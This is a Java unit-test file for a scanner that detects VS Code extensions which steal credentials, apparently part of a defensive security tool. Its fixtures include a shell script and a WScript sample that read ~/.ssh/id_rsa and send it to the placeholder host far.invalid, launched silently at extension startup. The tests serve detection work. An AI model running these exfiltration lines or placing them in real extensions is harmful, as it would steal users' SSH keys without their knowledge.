package dev.vsxray.scanner.analysis;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vsxray.scanner.archive.ExtensionPackage;
import dev.vsxray.scanner.model.Evidence;
import dev.vsxray.scanner.model.Feature;
import dev.vsxray.scanner.model.Feature.Flow;
import dev.vsxray.scanner.model.Feature.Trait;
import dev.vsxray.scanner.model.Registry;
import dev.vsxray.scanner.model.Trigger;
import dev.vsxray.signatures.catalogue.Catalogue;
import dev.vsxray.signatures.pattern.PatternSet;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class StartedScriptsTest {

    private static final String SENDS = "k=$(cat ~/.ssh/id_rsa)\ncurl -d \"$k\" https://far.invalid/k\n";

    @ParameterizedTest
    @ValueSource(
            strings = {
                "cp.execFile('sh', [path.join(context.extensionPath, 'tools', 'k.sh'), 'x'])",
                "cp.spawn('/bin/sh', ['tools/k.sh'], { cwd: context.extensionPath })",
                "cp.exec(`sh \"${context.asAbsolutePath('tools/k.sh')}\" x`)",
                "cp.spawn(path.join(__dirname, 'tools', 'k.sh'), [], { shell: true })",
                "vscode.window.createTerminal({ hideFromUser: true }).sendText(`sh ${context.asAbsolutePath('tools/k.sh')}`)",
                "const to = require('os').tmpdir() + '/copied.sh'; fs.copyFileSync(context.asAbsolutePath('tools/k.sh'), to); cp.spawn('sh', [to])",
                "cp.spawn('sh', ['-']).stdin.end(fs.readFileSync(context.asAbsolutePath('tools/k.sh')))",
            })
    void whatAScriptDoesHappensWhenTheProgramStartsIt(String start) {
        List<Feature> features = features(start + ";");

        assertThat(flows(features)).singleElement().satisfies(flow -> {
            assertThat(flow.from()).isEqualTo("ssh-credentials");
            assertThat(flow.to()).isEqualTo("network-send");
            assertThat(flow.destinations()).containsExactly("https://far.invalid/k");
            assertThat(flow.context().triggers()).contains(Trigger.STARTUP);
            assertThat(flow.steps())
                    .extracting(Evidence::role)
                    .containsExactly(Evidence.Role.SOURCE, Evidence.Role.SINK);
            assertThat(flow.steps())
                    .allSatisfy(step -> assertThat(step.location().file()).isEqualTo("tools/k.sh"));
        });
        assertThat(features).anyMatch(StartedScriptsTest::isUnasked);
    }

    @Test
    void aScriptThatTheUserAsksForHasTheConditionsOfItsCommand() {
        List<Feature> features = features("vscode.commands.registerCommand('x.y', () => cp.execFile('sh',"
                + " [context.asAbsolutePath('tools/k.sh')]));");

        assertThat(flows(features))
                .singleElement()
                .satisfies(flow -> assertThat(flow.context().triggers()).containsExactly(Trigger.USER_COMMAND));
        assertThat(features).noneMatch(StartedScriptsTest::isUnasked);
    }

    @Test
    void aProgramOfNodeIsNotReadByItsStatements() {
        String server = "const own = process.env;\nconst tools = 'lint ' + own;\nresolve(tools);\n";

        List<Feature> features = features("cp.fork(context.asAbsolutePath('server.js'));", "server.js", server);

        assertThat(flows(features)).isEmpty();
    }

    @Test
    void aScriptOfAnotherHostIsReadByItsStatementsThoughItIsJavaScript() {
        String script = "var shell = new ActiveXObject('WScript.Shell');\n"
                + "var k = shell.Exec('cmd /c type %USERPROFILE%\\\\.ssh\\\\id_rsa').StdOut.ReadAll();\n"
                + "var http = new ActiveXObject('MSXML2.XMLHTTP'); http.open('POST', 'https://far.invalid/k'); http.send(k);\n";

        List<Feature> features = features("cp.spawn('wscript.exe', [context.asAbsolutePath('k.js')]);", "k.js", script);

        assertThat(flows(features)).anyMatch(flow -> flow.from().equals("ssh-credentials"));
    }

    @Test
    void aScriptThatNothingStartsHasNoFlows() {
        List<Feature> features = features("fs.readFileSync(context.asAbsolutePath('tools/k.sh'));");

        assertThat(flows(features)).isEmpty();
        assertThat(features).noneMatch(StartedScriptsTest::isUnasked);
    }

    private static boolean isUnasked(Feature feature) {
        return feature instanceof Trait trait && trait.name().equals("unasked-script-does");
    }

    private static List<Flow> flows(List<Feature> features) {
        return features.stream()
                .filter(Flow.class::isInstance)
                .map(Flow.class::cast)
                .filter(flow -> flow.sinkApi().equals(StartedScripts.API))
                .toList();
    }

    private static List<Feature> features(String activation) {
        return features(activation, "tools/k.sh", SENDS);
    }

    private static List<Feature> features(String activation, String path, String script) {
        ExtensionPackage extension = ExtensionPackage.ofTexts(Map.of(
                "package.json",
                "{\"publisher\": \"acme\", \"name\": \"tools\", \"main\": \"main.js\"}",
                "main.js",
                "const vscode = require('vscode'), cp = require('child_process'), path = require('path'), fs = require('fs');\n"
                        + "exports.activate = context => { " + activation + " };",
                path,
                script));
        return new PackageAnalyzer(PatternSet.empty(), Catalogue.shipped(), List.of())
                .analyze(extension, Registry.UNKNOWN)
                .features();
    }
}
